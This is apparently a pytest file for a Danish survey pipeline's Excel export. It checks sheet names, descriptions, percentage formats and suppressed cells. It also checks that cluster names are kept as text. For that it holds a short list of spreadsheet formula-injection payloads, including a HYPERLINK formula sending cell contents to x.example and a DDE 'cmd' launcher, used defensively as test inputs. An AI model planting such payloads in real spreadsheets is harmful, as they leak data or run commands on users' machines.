"""kvis.xlsx as Excel users get it: a sheet per mart with a Danish name, the describing first sheet, percentages,
hidden cells empty, and names from the roster stored as text, never as formulas."""

from pathlib import Path

import duckdb
import openpyxl
import pytest
import yaml

from kvis_pipeline.publish.labels import ABOUT_SHEET, SHEET_NAMES
from kvis_pipeline.publish.workbook import describe, write_workbook

REPO = Path(__file__).parents[2]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1, "klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "https://x.example/",
    "0042",
]


@pytest.fixture
def publication(tmp_path):
    database = tmp_path / "kvis.duckdb"
    with duckdb.connect(str(database)) as con:
        con.execute("CREATE SCHEMA marts")
        con.execute(
            "CREATE TABLE marts.cluster_results (wave VARCHAR, cluster_id INTEGER, cluster_name VARCHAR, "
            "wave_start DATE, n_valid BIGINT, share_positive DOUBLE, suppressed BOOLEAN, suppression VARCHAR)"
        )
        rows = [("2025", i + 1, name, "2025-09-01", 10, 0.64, False, None) for i, name in enumerate(HOSTILE)]
        rows.append(("2025", 9, "Klynge 9", "2025-09-01", None, None, True, "complementary"))
        con.executemany("INSERT INTO marts.cluster_results VALUES (?, ?, ?, ?, ?, ?, ?, ?)", rows)
        con.execute("COMMENT ON TABLE marts.cluster_results IS 'Per wave, cluster and item.'")
        con.execute("COMMENT ON COLUMN marts.cluster_results.share_positive IS 'n_positive / n_valid.'")
        con.execute("CREATE TABLE marts.load_summary (wave VARCHAR, source_file VARCHAR)")
    return database


def test_a_sheet_per_mart_after_the_describing_sheet(publication, tmp_path):
    workbook = openpyxl.load_workbook(write_workbook(publication, tmp_path / "kvis.xlsx"))
    assert workbook.sheetnames == [ABOUT_SHEET, SHEET_NAMES["cluster_results"], SHEET_NAMES["load_summary"]]
    about = [[c.value for c in row] for row in workbook[ABOUT_SHEET].iter_rows()]
    assert about[0] == ["Ark", "Tabel", "Kolonne", "Type", "Beskrivelse"]
    described = {(row[1], row[2]): row[4] for row in about[1:] if row[1]}
    assert described[("cluster_results", None)] == "Resultater pr. bølge, klynge og spørgsmål."
    assert described[("cluster_results", "share_positive")].startswith("Andel positive svar")
    assert {c for (t, c) in described if t == "cluster_results" and c} == {
        "wave",
        "cluster_id",
        "cluster_name",
        "wave_start",
        "n_valid",
        "share_positive",
        "suppressed",
        "suppression",
    }
    assert all(len(name) <= 31 for name in SHEET_NAMES.values())


def test_texts_stay_texts_shares_are_percentages_and_hidden_cells_are_empty(publication, tmp_path):
    sheet = openpyxl.load_workbook(write_workbook(publication, tmp_path / "kvis.xlsx"))[SHEET_NAMES["cluster_results"]]
    header = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2"
    rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    names = [row["cluster_name"] for row in rows]
    assert [c.value for c in names] == HOSTILE + ["Klynge 9"]  # rows in key order, every text verbatim
    assert all(c.data_type == "s" for c in names)  # a string cell, not a formula ('f') nor a number
    assert all(c.hyperlink is None for c in names)
    shown = next(row for row in rows if row["cluster_id"].value == 1)
    assert shown["share_positive"].value == 0.64 and shown["share_positive"].number_format == "0.0%"
    assert shown["wave_start"].is_date
    hidden = next(row for row in rows if row["cluster_id"].value == 9)
    assert hidden["share_positive"].value is None and hidden["n_valid"].value is None
    assert hidden["suppression"].value == "complementary"


def test_every_published_table_and_column_is_described_in_danish():
    """The dbt contracts list what is published; each table and column needs a Danish description for Excel users."""
    marts = yaml.safe_load((REPO / "dbt_project" / "models" / "marts" / "_marts.yml").read_text(encoding="utf-8"))
    missing = []
    for model in marts["models"]:
        if describe(model["name"]) is None:
            missing.append(model["name"])
        missing += [
            f"{model['name']}.{c['name']}" for c in model["columns"] if describe(model["name"], c["name"]) is None
        ]
    assert missing == []
    assert {m["name"] for m in marts["models"]} == set(SHEET_NAMES)  # and a Danish sheet name


def test_a_mart_larger_than_a_sheet_is_left_out_whole_and_the_describing_sheet_says_where_it_is(publication, tmp_path):
    # eight rows and a header do not fit a sheet of eight rows; Excel's own limit is 1 048 576
    workbook = openpyxl.load_workbook(write_workbook(publication, tmp_path / "kvis.xlsx", sheet_rows=8))
    assert workbook.sheetnames == [ABOUT_SHEET, SHEET_NAMES["load_summary"]]
    about = {row[1]: row for row in workbook[ABOUT_SHEET].iter_rows(values_only=True) if row[1] and not row[2]}
    sheet, _, _, _, description = about["cluster_results"]
    assert sheet is None
    assert description.endswith(
        "Tabellen har 8 rækker, flere end et Excel-ark kan rumme, og er derfor ikke med i denne projektmappe; "
        "den findes i parquet/cluster_results.parquet og i kvis.duckdb."
    )
    assert about["load_summary"][0] == SHEET_NAMES["load_summary"]
